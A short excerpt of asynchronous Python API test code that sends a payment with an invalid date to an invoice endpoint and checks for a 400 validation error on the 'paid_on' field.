    wrong = await client.post(f"/api/v1/invoices/{invoice.id}/payments", headers=await bearer(finance),
                              json={"paid_on": "2026/13/01", "amount_jpy": 1})
    assert wrong.status_code == 400 and wrong.json()["errors"][0]["field"] == "paid_on"
